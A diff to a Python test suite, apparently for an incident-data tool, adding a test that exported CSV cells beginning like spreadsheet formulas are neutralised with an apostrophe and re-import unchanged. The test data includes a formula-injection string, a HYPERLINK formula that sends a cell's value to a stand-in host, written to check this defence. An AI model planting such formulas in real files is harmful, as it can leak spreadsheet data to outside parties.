@@ -294,6 +294,46 @@ def test_export_into_a_fresh_store_gives_the_same_records(
     fresh.dispose()
 
 
+def test_a_text_a_spreadsheet_would_run_is_exported_inert_and_imports_back_as_it_was(
+    sqlite_engine: Engine, acled_csv: Path, gtd_csv: Path, tmp_path: Path
+) -> None:
+    """Notes and names starting like a formula ("=HYPERLINK(...)", "@SUM", "+92", "-3 dead")
+    are written with a leading apostrophe, so that a partner opening the export in a
+    spreadsheet sees text, not a formula it runs; importing the file gives the texts back."""
+    from sqlalchemy import update
+    from sqlalchemy.orm import sessionmaker
+
+    from safecorridor.db.engine import make_engine, migrate
+
+    import_file("acled", acled_csv)
+    import_file("gtd", gtd_csv)
+    texts = ['=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(A1:A9)", "+92 300", "-3 dead"]
+    with sessionmaker(bind=sqlite_engine)() as s:
+        ids = list(s.scalars(select(Incident.id).order_by(Incident.id)))[: len(texts)]
+        for ident, note in zip(ids, texts, strict=True):
+            s.execute(
+                update(Incident).where(Incident.id == ident).values(notes=note, location=note)
+            )
+        s.commit()
+        out = tmp_path / "export.csv"
+        export_file(s, "csv", out)
+    with out.open(newline="", encoding="utf-8") as f:
+        cells = [v for row in csv.DictReader(f) for v in row.values()]
+    assert not [c for c in cells if c and c[0] in "=+@\t\r"]  # no cell a spreadsheet runs
+    assert not [c for c in cells if c.startswith("-") and not c[1:].replace(".", "").isdigit()]
+    for note in texts:
+        assert cells.count("'" + note) == 2  # notes and location
+
+    fresh = make_engine(f"sqlite:///{tmp_path / 'fresh.db'}")
+    migrate(fresh)
+    import_file("acled", out, engine=fresh)
+    with sessionmaker(bind=fresh)() as s:
+        got = sorted(n for n in s.scalars(select(Incident.notes)) if n in texts)
+        assert got == sorted(texts)
+        assert sorted(x for x in s.scalars(select(Incident.location)) if x in texts) == got
+    fresh.dispose()
+
+
 def test_jsonl_lines_that_are_not_json_are_rejected_by_line(engine: Engine, tmp_path: Path) -> None:
     path = tmp_path / "x.jsonl"
     good = {
